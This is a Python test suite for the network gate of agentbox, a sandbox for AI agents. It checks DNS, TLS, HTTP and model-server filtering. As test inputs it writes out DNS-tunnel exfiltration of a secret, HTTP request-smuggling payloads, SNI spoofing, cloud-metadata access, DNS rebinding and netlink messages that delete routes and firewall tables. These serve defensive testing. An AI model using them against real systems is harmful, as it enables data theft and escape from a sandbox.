"""The network gate: every connection of a room has a name and a verdict, whatever program makes it, and nothing else leaves
the room. Servers run on this machine; the test set-up names them, by rules and by a name server of its own."""

import json
import subprocess
import time

from gate_world import CONNECT, GET, SEND, Net, Web, granted, tls_server
from harness import agentbox_binary, expect, expect_equal, need_program, run_tests, test
from servers import PYTHON, Server
from terminal import Tmux


@test("a name that a rule grants works for a program that knows no proxy, by IPv4 and IPv6")
def by_name(world):
    with Server() as server:
        net = Net(world, {"web.example": "127.0.0.1"}, granted(server, "web.example"))
        done = net.python(CONNECT, "web.example", server.port)
        expect_equal(done.text, "said echo hello quick\n", f"{done}")
        script = ("import socket, sys\nfor family in (socket.AF_INET, socket.AF_INET6):\n"
                  " a = socket.getaddrinfo('web.example', int(sys.argv[1]), family, socket.SOCK_STREAM)[0]\n"
                  " s = socket.socket(family, socket.SOCK_STREAM); s.connect(a[4]); s.sendall(b'hello\\n')\n"
                  " print(a[4][0].split('.')[0].split(':')[0], s.recv(100).decode().strip())\n")
        done = net.python(script, server.port)
        expect_equal(done.text, "198 echo hello\nfd61 echo hello\n", f"{done}")


@test("what no rule grants is refused at once, with an error that says so: other ports, names, addresses")
def refused(world):
    with Server() as server, Server() as other:
        net = Net(world, {"web.example": "127.0.0.1", "other.example": "127.0.0.1"}, granted(server, "web.example"))
        done = net.python(CONNECT, "web.example", server.port, "web.example", other.port, "other.example", server.port,
                          "192.0.2.1", 80, "2001:db8::1", 443, "198.18.77.77", 80)
        lines = done.text.splitlines()
        expect_equal(lines[0], "said echo hello quick", f"control\n{done}")
        expect_equal(len(lines), 6, f"lines\n{done}")
        for line in lines[1:]:
            expect(line in ("ConnectionResetError quick", "said nothing quick"), "refused, at once", line, done)
        expect_equal((server.connections, other.connections), (1, 0), "connections that arrived")
        # The name of what was refused was not even looked up.
        expect_equal(net.names_asked(), ["web.example"], "names that left the room")
        denied = {row["summary"] for row in net.record("--verdict", "deny")}
        expect({f"web.example:{other.port}", f"other.example:{server.port}", "192.0.2.1:80"} <= denied, "on record",
               denied)


@test("each client says in its own words that it was denied")
def readable(world):
    with Server() as server:
        net = Net(world, {}, granted(server, "web.example"))
        need_program("curl")
        done = net.room("curl", "-sS", "--max-time", "10", "https://elsewhere.example/")
        expect(done.code == 35 and "access denied" in done.errors, "curl, TLS", done)
        done = net.room("curl", "-sS", "--max-time", "10", "http://elsewhere.example/")
        expect("agentbox: no rule of the profile allows it" in done.text, "curl, HTTP", done)
        done = net.python("import urllib.request as r\ntry: r.urlopen('http://elsewhere.example/', timeout=10)\n"
                          "except Exception as e: print(e)")
        expect_equal(done.text, "HTTP Error 403: Forbidden\n", f"urllib\n{done}")


@test("no DNS question leaves the room, of whatever shape")
def dns(world):
    script = """
import socket, struct, sys
def ask(name, kind=1, tcp=False):
    labels = b"".join(bytes([len(part)]) + part for part in name.split(b".") if part) + b"\\0"
    query = b"\\x12\\x34\\x01\\x00\\x00\\x01" + b"\\0" * 6 + labels + struct.pack(">HH", kind, 1)
    s = socket.socket(socket.AF_INET, socket.SOCK_STREAM if tcp else socket.SOCK_DGRAM)
    s.settimeout(5)
    s.connect((sys.argv[1], 53))
    s.sendall((struct.pack(">H", len(query)) if tcp else b"") + query)
    reply = s.recv(600)[2 if tcp else 0:]
    return reply[3] & 15, struct.unpack(">H", reply[6:8])[0], ".".join(map(str, reply[-4:]))
secret = b"c2VjcmV0LW9mLXRoZS1vd25lcg"
for name in (b"www.example", secret + b"." + b"a" * 63 + b".tunnel.example", b"localhost", b"0x7f.1", b"2130706433"):
    print(ask(name)[:2])
print(ask(b"www.example", 16)[:2], ask(b"www.example", 65)[:2], ask(b"www.example", 15)[:2])
print(ask(b"www.example", 1, True) == ask(b"www.example"), ask(b"www.example")[2].startswith("198.18."))
"""
    with Server() as server:
        net = Net(world, {"web.example": "127.0.0.1"}, granted(server, "web.example"))
        for resolver in ("198.18.0.1", "8.8.8.8"):
            done = net.python(script, resolver)
            expect_equal(done.text, "(0, 1)\n(0, 1)\n(3, 0)\n(3, 0)\n(3, 0)\n(0, 0) (0, 0) (0, 0)\nTrue True\n",
                         f"answers of {resolver}\n{done}")
        expect_equal(net.names_asked(), [], "names that left the room")
        net.python(CONNECT, "web.example", server.port)
        expect_equal(net.names_asked(), ["web.example"], "control: a granted name is looked up, outside")


@test("a name that leads into this machine or a private network needs a grant of that address")
def inward(world):
    with Server() as server:
        rules = f'allow = ["web.example:{server.port}", "lan.example:80", "meta.example:80"]\n'
        net = Net(world, {"web.example": "127.0.0.1", "lan.example": "192.168.0.1", "meta.example": "169.254.169.254"},
                  rules)
        done = net.python(CONNECT, "web.example", server.port, "lan.example", 80, "meta.example", 80)
        expect_equal(done.text, "ConnectionResetError quick\n" * 3, f"refused\n{done}")
        expect_equal(server.connections, 0, "connections that arrived")
        why = " ".join(json.dumps(row) for row in net.record())
        expect("grant that address itself" in why and "private" in why, "the reason is on record", why)
        net = Net(world, {"web.example": "127.0.0.1"}, granted(server, "web.example"))
        expect_equal(net.python(CONNECT, "web.example", server.port).text, "said echo hello quick\n", "control")


@test("a name that leads elsewhere between two connections is checked each time")
def rebinding(world):
    script = ("import socket, sys, time\nfor turn in range(2):\n"
              " try:\n  s = socket.create_connection(('web.example', int(sys.argv[1])), 20); s.sendall(b'hello\\n')\n"
              "  print(s.recv(100).decode().strip(), flush=True)\n"
              " except OSError as e: print(type(e).__name__, flush=True)\n sys.stdin.readline()\n")
    with Server() as server:
        net = Net(world, {"web.example": "127.0.0.1"}, granted(server, "web.example"))
        process = world.start([agentbox_binary(), "run", "net", "--", PYTHON, "-c", script, str(server.port)],
                              env=net.env, stdin=subprocess.PIPE)
        expect_equal(process.stdout.readline(), b"echo hello\n", "control: the granted address")
        net.name({"web.example": "127.0.0.2"})
        time.sleep(10.5)  # an answer serves for ten seconds
        process.stdin.write(b"\n\n")
        process.stdin.flush()
        out, err = process.communicate(timeout=60)
        expect_equal(out, b"ConnectionResetError\n", f"{err}")
        expect_equal(net.names_asked(), ["web.example"] * 2, "looked up anew")


@test("TLS must name the host that was ruled on")
def sni(world):
    with tls_server(world, "web.example", "other.example") as server:
        net = Net(world, {"web.example": "127.0.0.1"}, granted(server, "web.example"))
        need_program("curl")
        url = f"https://web.example:{server.port}/"
        done = net.room("curl", "-sS", "--cacert", "ca.crt", url)
        expect_equal((done.code, done.text), (0, "hello\n"), f"control\n{done}")
        before = server.connections
        # Connects to the granted name's address, and says another name to whoever listens there.
        other = f"https://other.example:{server.port}/"
        done = net.room("curl", "-sS", "--cacert", "ca.crt", "--connect-to",
                        f"other.example:{server.port}:web.example:{server.port}", other)
        expect(done.code == 35 and "access denied" in done.errors, "another name", done)
        script = ("import socket, ssl, sys\nc = ssl.create_default_context(); c.check_hostname = False\n"
                  "c.verify_mode = ssl.CERT_NONE\ns = socket.create_connection(('web.example', int(sys.argv[1])), 10)\n"
                  "try: c.wrap_socket(s); print('in')\nexcept ssl.SSLError as e: print(e.reason)\n")
        expect_equal(net.python(script, server.port).text, "TLSV1_ALERT_ACCESS_DENIED\n", "no name at all")
        # A greeting in pieces of one byte is read all the same.
        script = ("import socket, ssl, sys, time\nc = ssl.create_default_context(); c.check_hostname = False\n"
                  "c.verify_mode = ssl.CERT_NONE\ni, o = ssl.MemoryBIO(), ssl.MemoryBIO()\n"
                  "t = c.wrap_bio(i, o, server_hostname=sys.argv[2])\n"
                  "try: t.do_handshake()\nexcept ssl.SSLWantReadError: pass\n"
                  "s = socket.create_connection(('web.example', int(sys.argv[1])), 10)\n"
                  "s.setsockopt(6, 1, 1)\nfor b in o.read():\n s.send(bytes([b]))\n"
                  "print(s.recv(1) == b'\\x16')\n")
        expect_equal(net.python(script, server.port, "web.example").text, "True\n", "in pieces, the right name")
        expect_equal(net.python(script, server.port, "other.example").text, "False\n", "in pieces, another name")
        why = json.dumps(net.record())
        expect("TLS for other.example on a connection to web.example" in why and "no SNI" in why, "reasons on record",
               why)
        expect(server.connections >= before, "the server saw connections, and no greeting")


@test("plain HTTP works: kept alive, pipelined, with a body, with an upgrade")
def http(world):
    with Web() as server:
        net = Net(world, {"web.example": "127.0.0.1"}, granted(server, "web.example"))
        need_program("curl")
        url = f"http://web.example:{server.port}"
        done = net.room("curl", "-sS", f"{url}/one", f"{url}/two", "-d", "body", f"{url}/three")
        expect_equal(done.text, "/onebody/twobody/threebody", f"curl\n{done}")
        expect_equal(server.connections, 1, "one connection for three requests")
        expect(all(head.count(f"Host: web.example:{server.port}\r\n") == 1 for head in server.heads), "Host", server.heads)
        done = net.python(SEND, server.port, GET.format("a", "") + GET.format("b", ""))
        expect(done.text.count("200 OK") == 2 and done.text.index("/a") < done.text.index("/b"), "pipelined", done)
        upgrade = GET.format("ws", "Upgrade: websocket\\r\\nConnection: Upgrade\\r\\n") + "hello\\n"
        done = net.python(SEND, server.port, upgrade)
        expect("101 Switching" in done.text and done.text.rstrip().endswith("raw hello"), "upgrade", done)
        done = net.python("import urllib.request as r, sys\nprint(r.urlopen(sys.argv[1], timeout=10).read())", f"{url}/py")
        expect_equal(done.text, "b'/py'\n", f"urllib\n{done}")


@test("every request of a plain connection must name the host that was ruled on, and be one that no server misreads")
def http_hosts(world):
    attacks = {
        "another host": "GET / HTTP/1.1\\r\\nHost: other.example\\r\\n\\r\\n",
        "another port": "GET / HTTP/1.1\\r\\nHost: web.example:1\\r\\n\\r\\n",
        "another host in the second request": GET.format("first", "") + "GET /second HTTP/1.1\\r\\nHost: other.example\\r\\n\\r\\n",
        "another host in the absolute form": "GET http://other.example/ HTTP/1.1\\r\\nHost: web.example:PORT\\r\\n\\r\\n",
        "two hosts": GET.format("", "Host: other.example\\r\\n"),
        "two lengths": GET.format("", "Content-Length: 5\\r\\nContent-Length: 6\\r\\n") + "hello",
        "length and chunks": GET.format("", "Content-Length: 5\\r\\nTransfer-Encoding: chunked\\r\\n") + "0\\r\\n\\r\\n",
        "an unknown coding": GET.format("", "Transfer-Encoding: xchunked\\r\\n") + "0\\r\\n\\r\\n",
        "a space before the colon": GET.format("", "Transfer-Encoding : chunked\\r\\n"),
        "a folded line": GET.format("", "X: a\\r\\n Host: other.example\\r\\n"),
        "a bare line feed": GET.format("", "X: a\\nHost: other.example\\r\\n"),
        "CONNECT": "CONNECT other.example:443 HTTP/1.1\\r\\nHost: other.example:443\\r\\n\\r\\n",
        "no version": "GET /\\r\\n\\r\\n",
    }
    with Web() as server:
        net = Net(world, {"web.example": "127.0.0.1"}, granted(server, "web.example"))
        control = net.python(SEND, server.port, GET.format("control", ""))
        expect("200 OK" in control.text, "control", control)
        for name, text in attacks.items():
            before = len(server.heads)
            done = net.python(SEND, server.port, text, "open")
            allowed = 1 if "second request" in name else 0
            expect_equal(len(server.heads) - before, allowed, f"{name}: requests that the server saw\n{done}")
            last = "HTTP/1.1 " + done.text.rsplit("HTTP/1.1 ", 1)[-1]
            expect(last[9] in "45" and "agentbox: " in last, f"{name}: refused with a reason", done)


@test("as = \"llm\": a model server answers what a model's user asks, and does nothing else")
def model(world):
    inline = '{"messages":[{"role":"user","content":[{"type":"image_url","image_url":{"url":"data:image/png;base64,AA=="}}]}]}'
    remote = inline.replace("data:image/png;base64,AA==", "http://evil.example/x.png")
    script = """
import http.client, json, sys
port = int(sys.argv[1])
for method, path, body in json.loads(sys.argv[2]):
    link = http.client.HTTPConnection("localhost", port, timeout=20)
    link.request(method, path, body, {"Content-Type": "application/json"} if body else {})
    print(link.getresponse().status)
"""
    good = [("GET", "/v1/models", None), ("POST", "/v1/chat/completions", '{"messages":[]}'),
            ("POST", "/v1/chat/completions", inline), ("POST", "/v1/embeddings", '{"input":"x"}'),
            ("GET", "/health", None), ("GET", "/api/tags", None)]
    bad = [("POST", "/v1/chat/completions", remote), ("POST", "/api/pull", '{"name":"x"}'),
           ("DELETE", "/api/delete", '{"name":"x"}'), ("POST", "/api/push", '{"name":"x"}'), ("GET", "/admin", None),
           ("POST", "/v1/chat/completions", "not json"), ("GET", "/v1/models/../../api/pull", None)]
    with Web() as server:
        world.profile("llm", 'extends = ["default"]\n[network]\nallow = [{ to = "localhost:%d", as = "llm" }]\n'
                             % server.port)
        done = world.room(PYTHON, "-c", script, str(server.port), json.dumps(good), profile="llm")
        expect_equal(done.text.split(), ["200"] * len(good), f"what a model's user needs\n{done}")
        expect_equal(len(server.heads), len(good), "requests that the server saw")
        done = world.room(PYTHON, "-c", script, str(server.port), json.dumps(bad), profile="llm")
        codes = done.text.split()
        expect(len(codes) == len(bad) and all(code in ("400", "403", "404", "405") for code in codes), "refused", done)
        expect_equal(len(server.heads), len(good), "requests that the server saw")
        # Control: a plain grant is whatever that server can do.
        world.profile("plain", 'extends = ["default"]\n[network]\nallow = ["localhost:%d"]\n' % server.port)
        done = world.room(PYTHON, "-c", script, str(server.port), json.dumps(bad), profile="plain")
        expect_equal(done.text.split(), ["200"] * len(bad), f"control\n{done}")


@test("as = \"llm\" holds for a name, too, and lets nothing by that it can't read")
def llm_by_name(world):
    with Web() as server:
        net = Net(world, {"models.example": "127.0.0.1"},
                  f'allow = ["127.0.0.1:{server.port}", {{ to = "models.example:{server.port}", as = "llm" }}]\n')
        script = """
import http.client, socket, sys
port = int(sys.argv[1])
for method, path in (("GET", "/v1/models"), ("POST", "/api/pull"), ("GET", "/admin")):
    link = http.client.HTTPConnection("models.example", port, timeout=20)
    link.request(method, path, "{}" if method == "POST" else None, {"Content-Type": "application/json"})
    print(link.getresponse().status)
for words in (b"hello\\n", b"\\x16\\x03\\x01\\x00\\x04\\x01\\x00\\x00\\x00"):
    s = socket.create_connection(("models.example", port), 20)
    s.sendall(words)
    try: print(s.recv(100)[:1])
    except OSError as error: print(type(error).__name__)
"""
        done = net.python(script, server.port)
        expect_equal(done.text.splitlines()[:3], ["200", "403", "403"], f"requests\n{done}")
        expect(done.text.splitlines()[3] == "ConnectionResetError", "other bytes", done)
        expect_equal([head.split(" ")[1] for head in server.heads], ["/v1/models"], "requests that the server saw")


@test("a server that speaks first is passed on as it is")
def server_first(world):
    def talk(link):
        link.sendall(b"220 mail.example\r\n")
        link.sendall(b"got " + link.makefile("rb").readline())

    with Server(talk) as server:
        net = Net(world, {"mail.example": "127.0.0.1"}, granted(server, "mail.example"))
        script = ("import socket, sys\ns = socket.create_connection(('mail.example', int(sys.argv[1])), 10)\n"
                  "f = s.makefile('rwb')\nprint(f.readline()); f.write(b'EHLO x\\n'); f.flush(); print(f.readline())\n")
        expect_equal(net.python(script, server.port).text, "b'220 mail.example\\r\\n'\nb'got EHLO x\\n'\n", "talk")


@test("datagrams, ping and raw sockets get nowhere, at once; the agent can't change routes or rules")
def others(world):
    script = """
import errno, socket, struct, time
def attempt(what, action):
    began = time.monotonic()
    try:
        action(); print(what, "DONE")
    except OSError as error:
        print(what, errno.errorcode.get(error.errno, str(error)), "quick" if time.monotonic() - began < 2 else "slow")
def datagram(family, to):
    s = socket.socket(family, socket.SOCK_DGRAM); s.settimeout(5); s.connect(to); s.send(b"x"); s.recv(10)
def netlink(protocol, message):
    s = socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, protocol); s.send(message)
    reply = s.recv(4096); code = struct.unpack("i", reply[16:20])[0]
    if code: raise OSError(-code, "")
attempt("quic", lambda: datagram(socket.AF_INET, ("192.0.2.1", 443)))
attempt("quic6", lambda: datagram(socket.AF_INET6, ("2001:db8::1", 443)))
attempt("raw", lambda: socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP))
attempt("packet", lambda: socket.socket(socket.AF_PACKET, socket.SOCK_RAW))
# RTM_DELROUTE of the default route, and NFT_MSG_DELTABLE of all tables in a batch of one.
route = struct.pack("BBBBBBBBI", socket.AF_INET, 0, 0, 0, 254, 3, 253, 1, 0)
attempt("route", lambda: netlink(0, struct.pack("IHHII", 16 + len(route), 25, 5, 1, 0) + route))
attempt("rules", lambda: netlink(12, struct.pack("IHHII", 20, (10 << 8) | 2, 5, 1, 0) + struct.pack("BBH", 1, 0, 0)))
"""
    with Server() as server:
        net = Net(world, {}, granted(server, "web.example"))
        done = net.python(script)
        lines = dict(line.split(" ", 1) for line in done.text.splitlines())
        for what in ("quic", "quic6"):
            expect(lines[what] in ("EPERM quick", "ECONNREFUSED quick", "EACCES quick", "EHOSTUNREACH quick"), what, done)
        expect(all(lines[what].split()[0] in ("EPERM", "EACCES", "EAFNOSUPPORT", "EPROTONOSUPPORT") for what in ("raw", "packet", "route", "rules")),
               "refused", done)


@test("a question names host and program; a yes once holds for the retries, and another connection waits for nothing")
def asked(world):
    with Server() as server, Server() as free:
        net = Net(world, {"new.example": "127.0.0.1", "web.example": "127.0.0.1"},
                  granted(server, more=f'ask = ["new.example:{server.port}"]\n'))
        script = ("import socket, sys\nfor patience in (2, 2, 60):\n"
                  " try:\n  s = socket.create_connection(('new.example', int(sys.argv[1])), patience)\n"
                  "  s.sendall(b'hello\\n'); print(s.recv(100).decode().strip()); break\n"
                  " except OSError as e: print(type(e).__name__, flush=True); s.close()\n")
        (world.workspace / "client.py").write_text(script)
        with Tmux(world, env=net.env) as terminal:
            terminal.line(f"{agentbox_binary()} run net -- {PYTHON} client.py {server.port}")
            screen = terminal.wait_for("connect to a host")
            expect(f"new.example:{server.port}" in screen and "python3" in screen, "host and program", screen)
            time.sleep(5)  # two clients have given up by now
            terminal.type("o")
            terminal.wait_for("echo hello")
            screen = terminal.wait_for("1 question")
            expect_equal(screen.count("TimeoutError"), 2, f"clients that gave up\n{screen}")


@test("two hundred connections at once to a name that asks are one question")
def burst(world):
    with Server() as server:
        net = Net(world, {"new.example": "127.0.0.1"}, granted(server, more=f'ask = ["new.example:{server.port}"]\n'))
        script = ("import socket, sys\nlinks = []\nfor _ in range(200):\n"
                  " links.append(socket.create_connection(('new.example', int(sys.argv[1])), 60)); links[-1].sendall(b'hello\\n')\n"
                  "print('all are in', flush=True)\n"
                  "print(sum(link.recv(100) == b'echo hello\\n' for link in links))\n")
        (world.workspace / "client.py").write_text(script)
        with Tmux(world, env=net.env) as terminal:
            terminal.line(f"{agentbox_binary()} run net -- {PYTHON} client.py {server.port}")
            terminal.wait_for_keys("connect to a host")
            terminal.type("o")
            screen = terminal.wait_for("1 question")
            expect("\n200\n" in screen, "answers", screen)


@test("each connection is on record with its address and its bytes")
def recorded(world):
    with Server() as server:
        net = Net(world, {"web.example": "127.0.0.1"}, granted(server, "web.example"))
        net.python(CONNECT, "web.example", server.port, "web.example", server.port)
        rows = [row for row in net.record() if row["what"] == "outcome"]
        expect_equal(len(rows), 2, f"outcomes {rows}")
        detail = rows[0]["detail"]
        detail = json.loads(detail) if isinstance(detail, str) else detail
        expect_equal((detail["address"], detail["sent"], detail["received"]), ("127.0.0.1", 6, 11), "detail")
        done = world.agentbox("log", "--verify")
        expect_equal(done.code, 0, f"the chain holds\n{done}")


run_tests()
